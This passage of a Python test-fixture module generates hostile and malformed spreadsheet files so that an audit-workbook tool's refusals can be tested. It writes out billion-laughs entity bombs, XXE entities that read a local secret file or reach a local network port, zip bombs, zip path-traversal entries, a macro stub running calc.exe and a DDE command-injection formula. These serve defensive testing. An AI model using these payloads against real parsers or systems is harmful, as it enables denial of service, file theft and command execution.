"""A corpus of hostile and broken inputs, every one made by code (no binaries are committed).

Each :class:`Case` writes one input file from the demo audit workbook (or from nothing) and says what the
commands must make of it: refused in one Chinese line with exit code 2 (`refused`), or read with a finding
located at a cell (`at` + `rule`), or read without a complaint about that cell (`at`, no `rule`).

Cell edits are made in the sheet XML, not through openpyxl, so that a case is made in milliseconds and
can hold what openpyxl refuses to write (control characters, error values, entities, far cells).
"""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from xml.sax.saxutils import escape

from openpyxl.utils import column_index_from_string, get_column_letter

from cpxl.workbook import xlsxio

SECRET = "CPXL-SECRET-7f3a9c"  # content of a local file that external entities point at
GB = 1 << 30

# ---- the base workbook --------------------------------------------------------------------------------


@dataclass
class Base:
    """The demo audit workbook and where its tables sit."""

    path: Path
    book: object  # cpxl.workbook.read.Book
    secret: Path  # a file an external entity names
    port: int = 0  # a local port a network entity or formula would reach

    def cell(self, table_id: str, index: int, key: str) -> tuple[str, str]:
        data = self.book[table_id]
        return data.sheet, data.cells.at[index, key]

    def field(self, key: str) -> tuple[str, str]:
        data = self.book["封面信息"]
        return data.sheet, data.field_cells[key]

    def sheet(self, table_id: str) -> str:
        return self.book[table_id].sheet

    def row_of(self, table_id: str, **match) -> int:
        frame = self.book[table_id].frame
        for i in frame.index:
            if all(str(frame.at[i, k]) == str(v) for k, v in match.items()):
                return i
        raise KeyError(f"{table_id} has no row {match}")


# ---- zip and XML surgery ------------------------------------------------------------------------------


def sheet_parts(path: Path) -> dict[str, str]:
    pkg = xlsxio.open_package(Path(path))
    try:
        return {s.name: s.part for s in pkg.sheets}
    finally:
        pkg.close()


def rewrite(src: Path, dst: Path, parts: dict[str, Callable[[bytes], bytes] | bytes | None], *, add: dict[str, bytes] | None = None,
            compression=zipfile.ZIP_DEFLATED) -> Path:
    """Copy the zip `src` to `dst`, member by member; `parts` maps a member to a function of its bytes,
    to new bytes, or to None (dropped); `add` appends members."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", compression) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename in parts:
                change = parts[info.filename]
                if change is None:
                    continue
                data = change(data) if callable(change) else change
            zout.writestr(info.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    return dst


@dataclass(frozen=True)
class Raw:
    """A cell written as given: attributes (without r and s) and inner XML."""

    attrs: str = ""
    inner: str = ""


def _cell_xml(ref: str, style: str, value) -> bytes:
    s = f' s="{style}"' if style else ""
    if value is None:
        return f'<c r="{ref}"{s}/>'.encode()
    if isinstance(value, Raw):
        a = f" {value.attrs}" if value.attrs else ""
        return f'<c r="{ref}"{s}{a}>{value.inner}</c>'.encode()
    if isinstance(value, bool):
        return f'<c r="{ref}"{s} t="b"><v>{int(value)}</v></c>'.encode()
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"{s}><v>{value!r}</v></c>'.encode()
    text = escape(xlsxio.xml_text(str(value)))
    return f'<c r="{ref}"{s} t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'.encode()


_ROW = re.compile(rb'<row\b[^>]*\br="(\d+)"[^>]*?(?:/>|>.*?</row>)', re.S)
_CELL = re.compile(rb'<c\b[^>]*\br="([A-Z]+)(\d+)"[^>]*?(?:/>|>.*?</c>)', re.S)


def _set_cell(xml: bytes, ref: str, value) -> bytes:
    m = re.fullmatch(r"([A-Z]+)(\d+)", ref)
    col, row = column_index_from_string(m[1]), int(m[2])
    for rm in _ROW.finditer(xml):
        if int(rm[1]) < row:
            continue
        if int(rm[1]) > row:  # no such row: a new one before this
            new = f'<row r="{row}">'.encode() + _cell_xml(ref, "", value) + b"</row>"
            return xml[: rm.start()] + new + xml[rm.start():]
        body = rm[0]
        if body.endswith(b"/>"):
            body = body[:-2] + b"></row>"
        for cm in _CELL.finditer(body):
            c = column_index_from_string(cm[1].decode())
            if c == col:
                style = re.search(rb'\bs="(\d+)"', cm[0][: cm[0].index(b">")])
                new_body = body[: cm.start()] + _cell_xml(ref, style[1].decode() if style else "", value) + body[cm.end():]
                return xml[: rm.start()] + new_body + xml[rm.end():]
            if c > col:
                new_body = body[: cm.start()] + _cell_xml(ref, "", value) + body[cm.start():]
                return xml[: rm.start()] + new_body + xml[rm.end():]
        end = body.rindex(b"</row>")
        new_body = body[:end] + _cell_xml(ref, "", value) + body[end:]
        return xml[: rm.start()] + new_body + xml[rm.end():]
    new = f'<row r="{row}">'.encode() + _cell_xml(ref, "", value) + b"</row>"
    if b"<sheetData/>" in xml:
        return xml.replace(b"<sheetData/>", b"<sheetData>" + new + b"</sheetData>")
    return xml.replace(b"</sheetData>", new + b"</sheetData>")


def set_cells(src: Path, dst: Path, edits: dict[str, dict[str, object]], **kw) -> Path:
    """`edits`: sheet name -> {cell: value}. str is written as an inline string (control characters as
    Excel writes them, _xHHHH_), numbers and booleans as such, None empties the cell, Raw as given."""
    parts = sheet_parts(src)

    def editor(cells):
        def apply(xml: bytes) -> bytes:
            for ref, value in cells.items():
                xml = _set_cell(xml, ref, value)
            return xml

        return apply

    return rewrite(src, dst, {parts[sheet]: editor(cells) for sheet, cells in edits.items()}, **kw)


def with_doctype(xml: bytes, doctype: bytes) -> bytes:
    """The part with a DOCTYPE (and its entities) put after the XML declaration."""
    m = re.match(rb"<\?xml[^>]*\?>\s*", xml)
    head = m.group(0) if m else b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    return head + doctype + xml[m.end() if m else 0:]


def billion_laughs(root: str) -> bytes:
    ents = [b'<!ENTITY lol0 "lollollollollollollollollollol">']
    for i in range(1, 10):
        ents.append(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">'.encode())
    return b"<!DOCTYPE " + root.encode() + b" [" + b"".join(ents) + b"]>"


def external_entity(root: str, url: str, *, parameter: bool = False) -> bytes:
    if parameter:
        return f'<!DOCTYPE {root} [<!ENTITY % ext SYSTEM "{url}"> %ext;]>'.encode()
    return f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{url}">]>'.encode()


def entity_in_cell(src: Path, dst: Path, sheet: str, ref: str, doctype: bytes, entity: str) -> Path:
    """A cell whose inline text is an entity reference, the entity declared in the sheet's DOCTYPE."""
    part = sheet_parts(src)[sheet]

    def edit(xml: bytes) -> bytes:
        xml = _set_cell(xml, ref, Raw('t="inlineStr"', f"<is><t>&{entity};</t></is>"))
        return with_doctype(xml, doctype)

    return rewrite(src, dst, {part: edit})


SST_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
SST_REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def entity_in_shared_strings(src: Path, dst: Path, sheet: str, ref: str, doctype: bytes, entity: str) -> Path:
    """The cell refers to a new shared string that is an entity reference (the part is added if the
    workbook has none)."""
    with zipfile.ZipFile(src) as z:
        names = set(z.namelist())
        sst = z.read("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in names else None
    extra, add = {}, {}
    if sst is None:
        sst = b'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"></sst>'
        extra["[Content_Types].xml"] = lambda x: x.replace(
            b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="' + SST_TYPE + b'"/></Types>')
        extra["xl/_rels/workbook.xml.rels"] = lambda x: x.replace(
            b"</Relationships>", b'<Relationship Id="rIdSst" Type="' + SST_REL + b'" Target="sharedStrings.xml"/></Relationships>')
    count = len(re.findall(rb"<si>", sst))
    sst = re.sub(rb"</sst>\s*$", f"<si><t>&{entity};</t></si></sst>".encode(), sst)
    sst = re.sub(rb'(count|uniqueCount)="\d+"', lambda m: m[1] + b'="' + str(count + 1).encode() + b'"', sst)
    sst = with_doctype(sst, doctype)
    part = sheet_parts(src)[sheet]
    if "xl/sharedStrings.xml" in names:
        extra["xl/sharedStrings.xml"] = sst
    else:
        add["xl/sharedStrings.xml"] = sst
    extra[part] = lambda x: _set_cell(x, ref, Raw('t="s"', f"<v>{count}</v>"))
    return rewrite(src, dst, extra, add=add)


def rename_sheet(src: Path, dst: Path, old: str, new: str) -> Path:
    """Rename a sheet as Excel does: the tab and every formula or defined name that refers to it."""
    def quoted(name: str) -> bytes:
        return escape("'" + name.replace("'", "''") + "'", {'"': "&quot;"}).encode()

    def refs(xml: bytes) -> bytes:
        return xml.replace(quoted(old) + b"!", quoted(new) + b"!")

    parts = {name: refs for name in sheet_parts(src).values()}
    old_attr = escape(old, {'"': "&quot;"}).encode()
    new_attr = escape(new, {'"': "&quot;"}).encode()
    parts["xl/workbook.xml"] = lambda x: refs(x).replace(b'name="' + old_attr + b'"', b'name="' + new_attr + b'"')
    return rewrite(src, dst, parts)


def edit_workbook_xml(src: Path, dst: Path, fn: Callable[[bytes], bytes]) -> Path:
    return rewrite(src, dst, {"xl/workbook.xml": fn})


def with_openpyxl(src: Path, dst: Path, fn) -> Path:
    import openpyxl

    wb = openpyxl.load_workbook(src)
    fn(wb)
    wb.save(dst)
    return dst


def _zip_of(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


def patch_central_sizes(path: Path, member: str, *, size: int | None = None, crc: int | None = None) -> Path:
    """Overwrite the uncompressed size (and CRC) a zip declares for `member`, in the central directory
    and the local header: the declared size then lies about the data."""
    data = bytearray(path.read_bytes())
    name = member.encode()
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) != -1:  # central directory entries
        n = int.from_bytes(data[pos + 28: pos + 30], "little")
        if bytes(data[pos + 46: pos + 46 + n]) == name:
            if size is not None:
                data[pos + 24: pos + 28] = size.to_bytes(4, "little")
            if crc is not None:
                data[pos + 16: pos + 20] = crc.to_bytes(4, "little")
            local = int.from_bytes(data[pos + 42: pos + 46], "little")
            if size is not None:
                data[local + 22: local + 26] = size.to_bytes(4, "little")
            if crc is not None:
                data[local + 14: local + 18] = crc.to_bytes(4, "little")
        pos += 4
    path.write_bytes(bytes(data))
    return path


class _Repeated:
    """Stands in for zlib's compressor while one member is written: `block`, deflated once after a full
    flush, is emitted again as is each time it is written (a gigabyte in well under a second); anything
    else goes through a real compressor, flushed to a byte boundary before the blocks. zipfile still
    computes the CRC and sizes of what is written."""

    def __init__(self, block: bytes):
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        self.block, self.unit = block, c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
        self.real = zlib.compressobj(6, zlib.DEFLATED, -15)

    def compress(self, data: bytes) -> bytes:
        if len(data) == len(self.block) and data == self.block:
            return self.unit
        return self.real.compress(data) + self.real.flush(zlib.Z_FULL_FLUSH)

    def flush(self) -> bytes:
        return self.real.flush(zlib.Z_FINISH)


def repeated_member(path: Path, src: Path, member: str, block: bytes, count: int, head: bytes = b"", tail: bytes = b"") -> Path:
    """Copy `src` to `path` with `member` replaced by head + block × count + tail (never all in memory)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename != member:
                zout.writestr(info.filename, zin.read(info))
                continue
            zinfo = zipfile.ZipInfo(member, date_time=info.date_time)
            zinfo.compress_type = zipfile.ZIP_DEFLATED
            with zout.open(zinfo, "w", force_zip64=True) as fh:
                fh._compressor = _Repeated(block)
                if head:
                    fh.write(head)
                for _ in range(count):
                    fh.write(block)
                if tail:
                    fh.write(tail)
    return path


def zeros_member(path: Path, src: Path, member: str, size_mib: int) -> Path:
    """Replace `member` of `src` by `size_mib` MiB of zero bytes."""
    return repeated_member(path, src, member, bytes(1 << 20), size_mib)


def soffice() -> str | None:
    for name in ("soffice", "libreoffice"):
        if found := shutil.which(name):
            return found
    return None


def convert_with_soffice(src: Path, fmt: str, dst: Path) -> Path:
    """A real .xls/.ods written by LibreOffice from `src`, saved under the name `dst`."""
    exe = soffice()
    if exe is None:
        raise FileNotFoundError("soffice")
    work = dst.parent / f".soffice-{fmt}"
    work.mkdir(exist_ok=True)
    profile = (work / "profile").resolve().as_uri()
    filt = {"xls": "xls:MS Excel 97", "ods": "ods"}[fmt]
    subprocess.run([exe, f"-env:UserInstallation={profile}", "--headless", "--norestore", "--convert-to", filt,
                    "--outdir", str(work), str(src)], check=True, capture_output=True, timeout=120)
    made = work / (src.stem + "." + fmt)
    shutil.move(made, dst)
    shutil.rmtree(work, ignore_errors=True)
    return dst


# ---- the cases ----------------------------------------------------------------------------------------

COMMANDS = ("check", "calc", "export", "aggregate")
ALL = frozenset(COMMANDS)
READERS = frozenset({"check", "export", "aggregate"})  # commands that read values; calc is slow, run where it matters


@dataclass(frozen=True)
class Case:
    id: str
    make: Callable[[Base, Path], Path]  # writes the case into a folder, returns the input path
    refused: str = ""  # words of the refusal: exit 2 (aggregate: listed in R.7)
    at: Callable[[Base], tuple[str, str]] | None = None  # the cell the check must name …
    rule: str = ""  # … with this rule; "" = the value is accepted, no error at that cell
    commands: frozenset = ALL
    calc_at: Callable[[Base], tuple[str, str]] | None = None  # calc must report an error value here
    secret: bool = False  # the secret file's content must appear nowhere
    network: bool = False  # nothing may connect to the local port
    isolate: bool = False  # run in a child process with a memory limit (a regression could kill pytest)
    heavy: bool = False  # large: made once, run through each command once
    needs: str = ""  # "soffice" or "msoffcrypto"
    words: str = ""  # further words the output must contain
    note: str = ""
    template: Callable[[Base, Path], Path] | None = None  # export with --template made by this (the input is the demo)
    max_rss_mb: int = 0  # the command's peak resident memory (its render process included) must stay below this
    env: tuple = ()  # (name, value) pairs for the command's environment (run in a child process)
    absent: tuple = ()  # strings no member of the output may contain
    present: tuple = ()  # strings some member of the output must contain


def _f(base: Base, d: Path, name: str) -> Path:
    return d / name


def _cells(table: str, index: int, key: str, value, name: str):
    def make(base: Base, d: Path) -> Path:
        sheet, ref = base.cell(table, index, key)
        return set_cells(base.path, d / name, {sheet: {ref: value}})

    return make


def _field(key: str, value, name: str):
    def make(base: Base, d: Path) -> Path:
        sheet, ref = base.field(key)
        return set_cells(base.path, d / name, {sheet: {ref: value}})

    return make


def _at(table: str, index: int, key: str):
    return lambda base: base.cell(table, index, key)


def _at_field(key: str):
    return lambda base: base.field(key)


# -- files that are not workbooks


def _bytes(name: str, data: bytes):
    def make(base: Base, d: Path) -> Path:
        (d / name).write_bytes(data)
        return d / name

    return make


def _csv_gbk(base, d):
    p = d / "导出数据.xlsx"
    p.write_bytes("企业名称,产量（kL）\n清泉啤酒,102300\n".encode("gbk"))
    return p


def _html(base, d):
    p = d / "网页另存.xlsx"
    p.write_text('<html xmlns:x="urn:schemas-microsoft-com:office:excel"><body><table><tr><td>产量</td><td>100</td></tr>'
                 "</table></body></html>", encoding="utf-8")
    return p


def _directory(base, d):
    p = d / "文件夹.xlsx"
    p.mkdir()
    return p


def _missing(base, d):
    return d / "不存在的工作簿.xlsx"


def _too_big(base, d):
    from cpxl.workbook.read import MAX_BYTES

    p = d / "超大.xlsx"
    with open(p, "wb") as fh:  # sparse: no disk used
        fh.write(b"PK\x03\x04")
        fh.truncate(MAX_BYTES + 1)
    return p


def _truncated(fraction: float, name: str):
    def make(base, d):
        data = base.path.read_bytes()
        p = d / name
        p.write_bytes(data[: int(len(data) * fraction)])
        return p

    return make


def _tail_cut(base, d):
    data = base.path.read_bytes()
    p = d / "缺尾部.xlsx"
    p.write_bytes(data[:-30])  # the end-of-central-directory record is gone
    return p


def _corrupt_member(base, d, sheet: str | None = None, name: str = "损坏部件.xlsx"):
    """Bytes in the middle of the biggest deflated member (or of `sheet`'s part) flipped: CRC or inflate fails."""
    p = d / name
    shutil.copy(base.path, p)
    with zipfile.ZipFile(p) as z:
        part = sheet_parts(base.path)[base.sheet(sheet)] if sheet else None
        info = z.getinfo(part) if part else max(z.infolist(), key=lambda i: i.compress_size)
        start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data = bytearray(p.read_bytes())
    mid = start + info.compress_size // 2
    for i in range(mid, mid + 64):
        data[i] ^= 0x5A
    p.write_bytes(bytes(data))
    return p


def _zip_no_workbook(base, d):
    return _zip_of(d / "普通压缩包.xlsx", {"说明.txt": "不是工作簿".encode()})


def _docx_as_xlsx(base, d):
    return _zip_of(d / "报告.xlsx", {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "word/document.xml": b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
    })


def _xlsb(base, d):
    return _zip_of(d / "二进制.xlsx", {"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x83\x01\x00"})


def _ods_handmade(base, d):
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
               '<table:table table:name="D.6 产品产量"><table:table-row><table:table-cell><text:p>啤酒</text:p>'
               "</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>"
               "</office:document-content>")
    p = d / "开放文档.xlsx"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", content)
        z.writestr("META-INF/manifest.xml", '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>')
    return p


def _soffice(fmt: str, name: str):
    """A real file of another format, made by LibreOffice from a small workbook with the demo's first
    sheets (the format, not the content, is what is refused; a small file converts in seconds)."""

    def make(base, d):
        import openpyxl

        src = openpyxl.load_workbook(base.path, read_only=True)
        small = openpyxl.Workbook()
        small.remove(small.active)
        for ws in src.worksheets[:4]:
            out = small.create_sheet(ws.title)
            for row in ws.iter_rows(max_row=40, values_only=True):
                out.append([v if not (isinstance(v, str) and v.startswith("=")) else None for v in row])
        src.close()
        small.save(d / "小工作簿.xlsx")
        made = convert_with_soffice(d / "小工作簿.xlsx", fmt, d / name)
        (d / "小工作簿.xlsx").unlink()
        return made

    return make


def _encrypted(base, d):
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    with open(base.path, "rb") as fh:
        OOXMLFile(fh).encrypt("审核2025", out)
    p = d / "设有密码.xlsx"
    p.write_bytes(out.getvalue())
    return p


def _zip_encrypted_member(base, d):
    """The zip's own (PKWARE) encryption flag on every member: needs a password to inflate."""
    p = d / "压缩包密码.xlsx"
    shutil.copy(base.path, p)
    data = bytearray(p.read_bytes())
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = 0
        while (pos := data.find(sig, pos)) != -1:
            data[pos + off] |= 0x01
            pos += 4
    p.write_bytes(bytes(data))
    return p


def _zip_unknown_method(base, d):
    """Members declared with compression method 99 (AES), which neither zipfile nor calamine inflates."""
    p = d / "未知压缩.xlsx"
    shutil.copy(base.path, p)
    data = bytearray(p.read_bytes())
    for sig, off in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        pos = 0
        while (pos := data.find(sig, pos)) != -1:
            data[pos + off: pos + off + 2] = (99).to_bytes(2, "little")
            pos += 4
    p.write_bytes(bytes(data))
    return p


def _bomb_real(base, d):
    """The D.6 sheet replaced by 1.5 GB of zeros (about 1.5 MB compressed)."""
    part = sheet_parts(base.path)[base.sheet("D.6")]
    return zeros_member(d / "解压炸弹.xlsx", base.path, part, 1536)


def _bomb_declared(base, d):
    p = shutil.copy(base.path, d / "声明超大.xlsx")
    part = sheet_parts(base.path)[base.sheet("D.6")]
    return patch_central_sizes(Path(p), part, size=0xFFFFFFF0)


def _bomb_lying(base, d):
    """Declares 1 KB, holds 200 MB of zeros: a reader that trusts the header is cut short (CRC fails)."""
    part = sheet_parts(base.path)[base.sheet("D.6")]
    p = zeros_member(d / "声明过小.xlsx", base.path, part, 200)
    return patch_central_sizes(p, part, size=1024)


def _not_audit(base, d):
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.title = "Sheet1"
    wb.active["A1"] = "产量"
    wb.save(d / "普通表格.xlsx")
    return d / "普通表格.xlsx"


def _half_sheets(base, d):
    def drop(wb):
        for name in wb.sheetnames[len(wb.sheetnames) // 3:]:
            wb.remove(wb[name])

    return with_openpyxl(base.path, d / "缺一半工作表.xlsx", drop)


def _bad_workbook_xml(base, d):
    return edit_workbook_xml(base.path, d / "结构损坏.xlsx", lambda x: x[: len(x) // 2])


def _workbook_xml_laughs(base, d):
    return edit_workbook_xml(base.path, d / "结构实体炸弹.xlsx", lambda x: with_doctype(x, billion_laughs("workbook")))


def _workbook_xml_xxe(base, d):
    url = base.secret.resolve().as_uri()

    def edit(x: bytes) -> bytes:
        x = with_doctype(x, external_entity("workbook", url))
        return x.replace('name="目录"'.encode(), b'name="&xxe;"', 1)

    return edit_workbook_xml(base.path, d / "结构外部实体.xlsx", edit)


def _content_types_xxe(base, d):
    url = base.secret.resolve().as_uri()
    return rewrite(base.path, d / "类型外部实体.xlsx",
                   {"[Content_Types].xml": lambda x: with_doctype(x, external_entity("Types", url))})


# -- workbooks with hostile content


def _laughs_sheet(base, d):
    sheet, ref = base.cell("D.6", 0, "product")
    return entity_in_cell(base.path, d / "实体炸弹-工作表.xlsx", sheet, ref, billion_laughs("worksheet"), "lol9")


def _laughs_sst(base, d):
    sheet, ref = base.cell("D.6", 0, "product")
    return entity_in_shared_strings(base.path, d / "实体炸弹-共享字符串.xlsx", sheet, ref, billion_laughs("sst"), "lol9")


def _xxe_sheet(base, d):
    sheet, ref = base.field("company")
    return entity_in_cell(base.path, d / "外部实体-工作表.xlsx", sheet, ref,
                          external_entity("worksheet", base.secret.resolve().as_uri()), "xxe")


def _xxe_sst(base, d):
    sheet, ref = base.field("company")
    return entity_in_shared_strings(base.path, d / "外部实体-共享字符串.xlsx", sheet, ref,
                                    external_entity("sst", base.secret.resolve().as_uri()), "xxe")


def _xxe_network(base, d):
    sheet, ref = base.field("company")
    url = f"http://127.0.0.1:{base.port}/xxe.dtd"
    part = sheet_parts(base.path)[sheet]
    p = rewrite(base.path, d / "外部实体-网络.xlsx",
                {part: lambda x: with_doctype(x, external_entity("worksheet", url, parameter=True))})
    return p


def _xxe_core(base, d):
    url = base.secret.resolve().as_uri()

    def edit(x: bytes) -> bytes:
        x = with_doctype(x, external_entity("cp:coreProperties", url))
        return re.sub(rb"<dc:creator>.*?</dc:creator>", b"<dc:creator>&xxe;</dc:creator>", x)

    return rewrite(base.path, d / "外部实体-文档属性.xlsx", {"docProps/core.xml": edit})


def _far_cell(table_or_cover: str, name: str):
    def make(base, d):
        sheet = base.sheet(table_or_cover)
        return set_cells(base.path, d / name, {sheet: {"XFD1048576": "远处的一格"}})

    return make


def _duplicate_cells(base, d):
    """The same cell written 11.5 million times (250 MB of XML, a few hundred KB compressed): a small used
    area, but a reader would hold every copy."""
    part = sheet_parts(base.path)[base.sheet("D.6")]
    with zipfile.ZipFile(base.path) as z:
        xml = z.read(part)
    head = xml[: xml.index(b"<sheetData>")] + b'<sheetData><row r="1">'
    tail = b"</row></sheetData></worksheet>"
    cell = b'<c r="A1"><v>1</v></c>'
    return repeated_member(d / "重复单元格.xlsx", base.path, part, cell * ((1 << 20) // len(cell)), 240, head, tail)


def _shared_strings_bomb(base, d):
    """300 MB of one-letter shared strings: loaded whole when the workbook is opened."""
    si = b"<si><t>a</t></si>"
    head = b'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    src = d / ".with-sst.xlsx"
    entity_in_shared_strings(base.path, src, base.sheet("D.6"), base.cell("D.6", 0, "product")[1], b"", "amp")
    out = repeated_member(d / "共享字符串炸弹.xlsx", src, "xl/sharedStrings.xml", si * ((1 << 20) // len(si)), 300, head,
                          b"</sst>")
    src.unlink()
    return out


def _huge_merge(base, d):
    part = sheet_parts(base.path)[base.sheet("D.5")]

    def edit(x: bytes) -> bytes:
        merge = b'<mergeCell ref="A300:XFD1048576"/>'
        if b"<mergeCells" in x:
            return re.sub(rb"<mergeCells[^>]*>", lambda m: b"<mergeCells>" + merge, x, count=1)
        return x.replace(b"</sheetData>", b"</sheetData><mergeCells>" + merge + b"</mergeCells>")

    return rewrite(base.path, d / "超大合并单元格.xlsx", {part: edit})


def _huge_dimension(base, d):
    part = sheet_parts(base.path)[base.sheet("D.6")]
    return rewrite(base.path, d / "声明区域超大.xlsx",
                   {part: lambda x: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', x)})


def _many_rows(n: int, name: str):
    """`n` filled rows appended to 表D.5 (equipment list), written straight into the sheet XML."""

    def make(base, d):
        data = base.book["D.5"]
        first = int(data.frame["_row"].max()) + 1 if not data.frame.empty else 10
        cols = [c.key for c in data.table.columns]
        name_col = get_column_letter(cols.index("name") + 1)
        num_col = get_column_letter(cols.index("no") + 1) if "no" in cols else "A"
        rows = []
        for i in range(n):
            r = first + i
            rows.append(f'<row r="{r}"><c r="{num_col}{r}"><v>{i + 1}</v></c><c r="{name_col}{r}" t="inlineStr"><is><t>设备{i + 1}</t></is></c></row>')
        block = "".join(rows).encode()
        part = sheet_parts(base.path)[data.sheet]

        def edit(x: bytes) -> bytes:
            # everything the template put below the table goes; the new rows follow the last data row
            head, _, rest = x.partition(b"<sheetData>")
            body, _, tail = rest.partition(b"</sheetData>")
            kept = b"".join(m[0] for m in _ROW.finditer(body) if int(m[1]) < first)
            return head + b"<sheetData>" + kept + block + b"</sheetData>" + tail

        return rewrite(base.path, d / name, {part: edit})

    return make


def _big_file(base, d):
    """A 30 MB workbook: an embedded picture of incompressible bytes (as a scanned seal would be)."""
    rng = __import__("random").Random(7)
    blob = rng.randbytes(30 << 20)
    return rewrite(base.path, d / "三十兆.xlsx", {}, add={"xl/media/image1.png": b"\x89PNG\r\n\x1a\n" + blob})


def _vba(base, d):
    macro_ct = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"

    def ct(x: bytes) -> bytes:
        x = x.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", macro_ct)
        return x.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')

    rels = lambda x: x.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')  # noqa: E731
    return rewrite(base.path, d / "带宏.xlsx", {"[Content_Types].xml": ct, "xl/_rels/workbook.xml.rels": rels},
                   add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"Module1\"\nShell \"calc.exe\"" + bytes(400)})


def _path_traversal(base, d):
    return rewrite(base.path, d / "路径穿越.xlsx", {}, add={"../../cpxl-evil.txt": b"x", "/tmp/cpxl-evil-abs.txt": b"x"})


def _bad_shared_index(base, d):
    sheet, ref = base.cell("D.6", 0, "product")
    return set_cells(base.path, d / "共享字符串越界.xlsx", {sheet: {ref: Raw('t="s"', "<v>999999</v>")}})


def _bad_number_xml(base, d):
    sheet, ref = base.cell("D.6", 0, "output_3")
    return set_cells(base.path, d / "数值非数字.xlsx", {sheet: {ref: Raw("", "<v>abc</v>")}})


def _bad_sheet_xml(base, d):
    part = sheet_parts(base.path)[base.sheet("D.6")]
    def cut(x: bytes) -> bytes:  # ends in the middle of the data rows
        return x[: (x.index(b"<sheetData>") + x.index(b"</sheetData>")) // 2]

    return rewrite(base.path, d / "工作表XML损坏.xlsx", {part: cut})


def _sheet_missing(base, d):
    sheet = base.sheet("D.12")

    def drop(wb):
        wb.remove(wb[sheet])

    return with_openpyxl(base.path, d / "缺D12.xlsx", drop)


def _sheet_renamed(base, d):
    return rename_sheet(base.path, d / "改了表名.xlsx", base.sheet("D.6"), "产量表")


def _sheets_reordered(base, d):
    def edit(x: bytes) -> bytes:
        head, rest = x.split(b"<sheets>", 1)
        sheets, tail = rest.split(b"</sheets>", 1)
        items = re.findall(rb"<sheet\b[^>]*/>", sheets)
        return head + b"<sheets>" + b"".join(reversed(items)) + b"</sheets>" + tail

    return edit_workbook_xml(base.path, d / "工作表倒序.xlsx", edit)


ODD_NAME = "D.1 审核'小组&<成员>😀"


def _sheet_odd_name(base, d):
    return rename_sheet(base.path, d / "表名怪字符.xlsx", base.sheet("D.1"), ODD_NAME)


def _extra_odd_sheet(base, d):
    def add(wb):
        ws = wb.create_sheet("备份&<旧>'数据'😀 {{x}}")
        ws["A1"] = "=cmd|' /C calc'!A0"
        ws["A1"].data_type = "s"

    return with_openpyxl(base.path, d / "多出怪名工作表.xlsx", add)


def _header_renamed(base, d):
    sheet = base.sheet("D.5")
    return set_cells(base.path, d / "表头改名.xlsx", {sheet: {"C3": "设备"}})


def _header_shifted(base, d):
    sheet = base.sheet("D.6")

    def shift(wb):
        wb[sheet].insert_cols(1)

    return with_openpyxl(base.path, d / "表头错位.xlsx", shift)


def _merged_data(base, d):
    sheet = base.sheet("D.6")
    _, first = base.cell("D.6", 0, "output_1")
    _, last = base.cell("D.6", 0, "output_3")

    def merge(wb):
        wb[sheet].merge_cells(f"{first}:{last}")

    return with_openpyxl(base.path, d / "数据区合并.xlsx", merge)


def _date_text_in(table: str, index: int, key: str, value: str, name: str):
    return _cells(table, index, key, value, name)


def _chain(*makes, name: str):
    """Apply several makers one after the other, each to the previous one's output."""

    def make(base: Base, d: Path) -> Path:
